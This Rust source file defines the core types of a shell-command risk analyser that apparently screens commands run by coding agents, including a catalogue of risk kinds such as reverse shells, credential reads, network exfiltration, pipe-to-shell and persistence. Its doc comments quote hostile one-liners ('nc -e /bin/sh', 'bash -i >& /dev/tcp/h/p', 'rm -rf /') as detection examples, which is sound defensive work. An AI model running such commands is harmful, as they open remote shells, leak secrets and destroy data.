//! The shared vocabulary of the shell analysis: where a command runs, the
//! simple commands the walk finds in it, the risks the facts layer tags,
//! and the analysis that gathers them.

use sondera_catalogue::programs::options_with_values;

use crate::word::Word;

/// How many leading words of a command [`ShellAnalysis::command_prefixes`] gives.
pub const MAX_PREFIX_WORDS: usize = 6;

/// Where a command runs.
#[derive(Debug, Clone, Copy)]
pub struct ShellContext<'a> {
    /// The directory the command runs in.
    pub working_dir: &'a str,
    /// The agent's workspace; paths outside it are reported.
    pub workspace_root: &'a str,
    /// What `~` and `$HOME` stand for.
    pub home: &'a str,
}

/// The context the unit tests analyse in: a project below `/workspace`,
/// home at `/home/dev`.
#[cfg(test)]
pub(crate) const TEST_CONTEXT: ShellContext<'static> = ShellContext {
    working_dir: "/workspace/project",
    workspace_root: "/workspace/project",
    home: "/home/dev",
};

/// What a simple command reads on its standard input.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Stdin {
    /// The caller's standard input.
    #[default]
    Inherited,
    /// The output of these programs (a pipe or a process substitution).
    Pipe(Vec<String>),
    /// A here-document or here-string.
    Text(String),
    /// A file redirected in.
    File(String),
}

/// One simple command as it runs.
#[derive(Debug, Clone, Default)]
pub struct Invocation {
    /// The program's name, without directories (`/bin/rm` is `rm`).
    pub program: String,
    /// The program as written (after quote removal).
    pub path: String,
    /// The arguments after quote removal.
    pub args: Vec<String>,
    pub(crate) arg_words: Vec<Word>,
    /// Wrappers it was run through, outermost first.
    pub wrappers: Vec<String>,
    /// It runs through `sudo`, `doas` or another elevating wrapper.
    pub privileged: bool,
    /// The program comes from an expansion or substitution.
    pub dynamic_program: bool,
    /// Its arguments also come from standard input (`xargs`).
    pub args_from_stdin: bool,
    /// For `args_from_stdin`: the paths the upstream stage prints, when they
    /// are known (`find DIR | xargs rm`); empty when they are not.
    pub(crate) piped_operands: Vec<Word>,
    /// What it reads on its standard input.
    pub stdin: Stdin,
    /// Names of the variables a here-string on its standard input expands.
    pub(crate) stdin_variables: Vec<String>,
    /// The stage piped into it was given a URL: what it reads is most
    /// likely what was fetched from there.
    pub piped_from_url: bool,
    /// Files it writes through redirections.
    pub writes: Vec<Word>,
    /// The text of scripts it reads that this command wrote earlier with
    /// text it spelled out (`echo 'DROP TABLE t;' > q.sql; psql -f q.sql`).
    pub scripts: Vec<String>,
    /// Programs of process substitutions among its arguments.
    pub process_substitutions: Vec<Vec<String>>,
    /// Where, in the list it is recorded in, the commands its words'
    /// substitutions ran are (`curl "https://h/?d=$(history)"` ran
    /// `history` there): what it may send of their output.
    pub(crate) substituted: std::ops::Range<usize>,
    /// Names of the variables assigned for it (`X=1 cmd`, `env X=1 cmd`).
    pub assignments: Vec<String>,
    /// 0 at top level, +1 inside each nested shell, `eval` or substitution.
    pub depth: usize,
    /// Found inside another command's arguments: it may not be a command at
    /// all, so only what a known program certainly does counts.
    pub phantom: bool,
    /// What it prints is handed to another command, not shown: it runs
    /// inside a command substitution (`$(...)`), or its output is piped to
    /// a command that reads a credential from its standard input (`|
    /// docker login --password-stdin`).
    pub output_handed_on: bool,
    /// A redirection duplicates a descriptor beyond 0, 1 and 2 (`<&196`,
    /// `>&$REPLY`): one opened elsewhere in the command, often a socket.
    pub extra_descriptors: bool,
}

impl Invocation {
    /// Its operands as the walk found them: arguments that are neither
    /// options nor the values of options its program takes a value with.
    pub(crate) fn operand_words(&self) -> impl Iterator<Item = &Word> {
        operands_of(&self.program, &self.arg_words)
    }

    /// Its operands' texts (see [`Invocation::operand_words`]).
    pub(crate) fn operands(&self) -> impl Iterator<Item = &String> {
        operands_of(&self.program, &self.args)
    }

    /// Calls `f` with each option or key the command sets and its value:
    /// `--opt value`, `--opt=value`, `-Dkey=value`, a `key=value` operand
    /// (`private=false`, `export NAME=value`), and a field of an API call
    /// (`-f permission=admin`).
    pub(crate) fn for_each_setting(&self, mut f: impl FnMut(&str, &str)) {
        let args = &self.args;
        let mut n = 0;
        while let Some(arg) = args.get(n) {
            n += 1;
            let Some(option) = arg.strip_prefix("--").or_else(|| arg.strip_prefix('-')) else {
                if let Some((key, value)) = arg.split_once('=') {
                    f(key, value);
                }
                continue;
            };
            if let Some((name, value)) = option.split_once('=') {
                f(name, value);
                continue;
            }
            let Some(value) = args.get(n).filter(|v| !v.starts_with('-')) else {
                continue;
            };
            n += 1;
            f(option, value);
            if matches!(option, "f" | "F" | "field" | "raw-field")
                && let Some((key, field)) = value.split_once('=')
            {
                f(key, field);
            }
        }
    }

    /// The subcommand of a `git` invocation and the arguments after it, past
    /// global options such as `-C DIR` and `-c KEY=VALUE`.
    pub(crate) fn git_subcommand(&self) -> Option<(&str, &[String])> {
        if self.program != "git" {
            return None;
        }
        let mut at = 0;
        while let Some(arg) = self.args.get(at) {
            if GIT_VALUED_OPTIONS.contains(&arg.as_str()) {
                at += 2;
            } else if arg.starts_with('-') {
                at += 1;
            } else {
                return Some((arg.as_str(), &self.args[at + 1..]));
            }
        }
        None
    }
}

/// Global options of `git` that take a value in the next argument.
const GIT_VALUED_OPTIONS: &[&str] = &[
    "-C",
    "-c",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "--config-env",
];

fn operands_of<'a, T: AsRef<str>>(program: &str, args: &'a [T]) -> impl Iterator<Item = &'a T> {
    let valued = options_with_values(program);
    let mut skip_next = false;
    args.iter().filter(move |arg| {
        let arg = arg.as_ref();
        if std::mem::take(&mut skip_next) {
            return false;
        }
        if arg.starts_with('-') {
            skip_next = valued.contains(&arg);
            return false;
        }
        true
    })
}

/// Everything the analysis found.
#[derive(Debug, Clone, Default)]
pub struct ShellAnalysis {
    /// Every simple command found, in the order it runs.
    pub invocations: Vec<Invocation>,
    /// Functions the command defines.
    pub functions: Vec<String>,
    /// Some part ran through a nested shell, `eval` or substitution.
    pub nested: bool,
    /// Why the command could not be fully analysed, if it could not.
    pub unparsable: Option<String>,
    /// What the command does that a policy may want to stop.
    pub risks: Vec<Risk>,
    /// Paths the command deletes that resolve outside the workspace.
    pub paths_outside_workspace: Vec<String>,
    /// Hosts network programs in the command talk to.
    pub hosts: Vec<String>,
}

impl ShellAnalysis {
    /// Some program could not be known statically.
    pub fn dynamic(&self) -> bool {
        self.invocations.iter().any(|i| i.dynamic_program)
    }

    /// Some program runs with elevated privileges (`sudo`, `doas`, ...).
    pub fn privileged(&self) -> bool {
        self.invocations.iter().any(|i| i.privileged)
    }

    /// Every program run, in order, without repeats.
    pub fn programs(&self) -> Vec<&str> {
        distinct(self.commands_run().map(|i| i.program.as_str()))
    }

    /// Invocations that run a program (not the redirections of a compound
    /// command recorded on their own).
    fn commands_run(&self) -> impl Iterator<Item = &Invocation> {
        self.invocations.iter().filter(|i| !i.program.is_empty())
    }

    /// A simple command's words: the program, then its arguments.
    fn argv(i: &Invocation) -> impl Iterator<Item = &str> {
        std::iter::once(i.program.as_str()).chain(i.args.iter().map(String::as_str))
    }

    /// Each simple command as run (program after unwrapping, then its
    /// arguments after quote removal), one space between words, without
    /// repeats: `ls && r''m -rf /` is `ls` and `rm -rf /`.
    pub fn commands(&self) -> Vec<String> {
        distinct(
            self.commands_run()
                .map(|i| Self::argv(i).collect::<Vec<_>>().join(" ")),
        )
    }

    /// The leading words of each simple command, one to
    /// [`MAX_PREFIX_WORDS`] of them (`git`, `git push`, `git push origin`),
    /// so a policy can match a command by its start in any segment of a
    /// chain.
    pub fn command_prefixes(&self) -> Vec<String> {
        distinct(self.commands_run().flat_map(|i| {
            let words: Vec<&str> = Self::argv(i).take(MAX_PREFIX_WORDS).collect();
            (1..=words.len()).map(move |n| words[..n].join(" "))
        }))
    }

    /// How many simple commands run (redirections of a compound command
    /// alone are not one).
    pub fn segments(&self) -> usize {
        self.commands_run().count()
    }

    /// Whether some risk of `kind` was found.
    pub fn has(&self, kind: RiskKind) -> bool {
        self.risks.iter().any(|r| r.kind == kind)
    }
}

/// `items` in their first order, without repeats, in linear time: a
/// command may run thousands of simple commands.
fn distinct<T: Eq + std::hash::Hash + Clone>(items: impl Iterator<Item = T>) -> Vec<T> {
    // Most commands have a handful of items: comparing with those kept costs
    // less than hashing and copying each. Past a few, a set takes over.
    const COMPARED: usize = 16;
    let mut kept: Vec<T> = Vec::new();
    let mut seen: Option<std::collections::HashSet<T>> = None;
    for item in items {
        let new = match &mut seen {
            None if kept.len() < COMPARED => !kept.contains(&item),
            None => {
                let set = seen.insert(kept.iter().cloned().collect());
                set.insert(item.clone())
            }
            Some(set) => set.insert(item.clone()),
        };
        if new {
            kept.push(item);
        }
    }
    kept
}

/// A kind of risk a command carries, by its name in policies.
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    Hash,
    PartialOrd,
    Ord,
    strum::IntoStaticStr,
    strum::EnumString,
)]
#[strum(serialize_all = "snake_case")]
#[non_exhaustive]
pub enum RiskKind {
    /// `rm -r`, `find -delete`, ... on a target outside the workspace.
    DeleteOutsideWorkspace,
    /// Recursive or forced delete confined to the workspace.
    DeleteInWorkspace,
    /// `dd` onto a device, `mkfs`, `wipefs`, `shred`, writing a block device.
    DiskOverwrite,
    /// Recursive or setuid permission/ownership change on a system path.
    PermissionChange,
    /// A function that calls itself in the background, without end.
    ForkBomb,
    /// A shell reads its script from a pipe or process substitution.
    PipeToShell,
    /// The piped script comes from the network or a decoder.
    RemoteScript,
    /// `sudo`, `su`, `doas`, setuid changes: running as someone more powerful.
    PrivilegeEscalation,
    /// `git push --force` and its spellings, `--mirror`, deleting remote
    /// refs: shared history overwritten or removed.
    ForcePush,
    /// `git push` to a remote added in the same command, or to a URL.
    PushToNewRemote,
    /// A shell wired to a network connection (`nc -e /bin/sh`,
    /// `bash -i >& /dev/tcp/h/p`, `socat exec:bash tcp:h:p`).
    ReverseShell,
    /// `terraform destroy`, `kubectl delete`, `DROP`/`TRUNCATE`, cloud deletes.
    InfraDestroy,
    /// A destructive operation aimed at production (`--stack prod`) or at
    /// a protected branch of a remote (`main`, `release/*`).
    ProtectedTarget,
    /// Stops every process of a user or of the system (`kill -9 -1`), or
    /// removes every scheduled job (`crontab -r`).
    MassDisruption,
    /// Writes a file of the operating system (`> /etc/resolv.conf`, `tee
    /// /etc/hosts`, `cp x /usr/bin/`).
    SystemWrite,
    /// Clearing shell history or logs.
    HistoryTampering,
    /// A security control switched off: a firewall flushed or disabled,
    /// mandatory access control made permissive, audit or endpoint
    /// protection stopped, kernel hardening set to 0.
    SecurityControlOff,
    /// The machine opened to the network: a file server over home, the
    /// root or the system, a tunnel to a remote-login port.
    Exposure,
    /// A program that cannot be known statically.
    DynamicProgram,
    /// An interpreter runs inline code (`python -c`, `perl -e`, ...).
    InlineCode,
    /// Inline code that deletes files, spawns commands or opens connections.
    InlineCodeRisky,
    /// The command could not be analysed.
    Unparsable,
    /// Reads a file that holds credentials (keys, cloud credentials, dotenv, ...).
    SecretRead,
    /// Searches home or the filesystem for credential-looking strings.
    SecretSearch,
    /// Sends data over the network (curl -d/-F/-T, wget --post-file, scp to a host, nc with input).
    NetworkUpload,
    /// What is sent is a file outside the workspace.
    UploadExternalFile,
    /// Prints the whole environment (env, printenv, /proc/*/environ).
    EnvDump,
    /// A DNS lookup of a name built at run time.
    DnsExfil,
    /// A credential variable named for no service in particular
    /// (`$API_KEY`) sent to a public host: where it belongs cannot be told.
    CredentialSent,
    /// A credential variable named for a service sent to a public host
    /// that may not be that service's: a self-hostable service's to a host
    /// that does not name it (`$JENKINS_TOKEN` to `files.example`), a
    /// hosted service's to a look-alike (`$GITHUB_TOKEN` to
    /// `github.files.example`).
    CredentialMisdirected,
    /// Reaches a cloud metadata endpoint (169.254.169.254, metadata.google.internal).
    MetadataEndpoint,
    /// Installs packages from a URL, a git repository or another index, or
    /// changes the package registry.
    UntrustedPackageSource,
    /// Installs something that runs again later: crontab, sudoers, shell rc
    /// files, systemd units, authorized_keys, git hooks.
    Persistence,
    /// Writes a shell start-up file or a git hook with content the command
    /// spells out, which runs nothing else flagged: what every later login
    /// or commit runs changes, which a person confirms (`echo 'export
    /// PATH=...' >> ~/.bashrc`). Content the command does not spell out is
    /// [`RiskKind::Persistence`].
    StartupFileWrite,
    /// Writes a file coding agents load as standing instructions
    /// (`AGENTS.md`, `CLAUDE.md`, `.cursorrules`, ...).
    AgentInstructions,
    /// The command hides what it is: NUL or other control bytes.
    Obfuscated,
    /// A shell started with nothing to run (`find -exec /bin/sh`, `vim -c
    /// ':!sh'`, `env /bin/sh`): it reads its commands from whoever holds its
    /// input, the shape of an escape rather than of work.
    InteractiveShell,
}

impl RiskKind {
    /// The kind's name in policies (`delete_outside_workspace`).
    pub fn as_str(self) -> &'static str {
        self.into()
    }
}

/// A risk with the evidence for it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Risk {
    /// What the command does.
    pub kind: RiskKind,
    /// What established it, quoting the command.
    pub evidence: String,
}

/// A risk of `kind` established by `evidence`.
pub(super) fn risk(kind: RiskKind, evidence: impl Into<String>) -> Risk {
    Risk {
        kind,
        evidence: evidence.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::distinct;

    #[test]
    fn distinct_keeps_first_occurrences_in_order_below_and_past_the_set() {
        for length in 0..80usize {
            for spread in [1, 3, 17, 40, 200] {
                let items: Vec<String> = (0..length)
                    .map(|n| ((n * 7 + n / 3) % spread).to_string())
                    .collect();
                let mut seen = std::collections::HashSet::new();
                let reference: Vec<&String> = items.iter().filter(|i| seen.insert(*i)).collect();
                assert_eq!(distinct(items.iter()), reference, "{length} {spread}");
            }
        }
    }
}
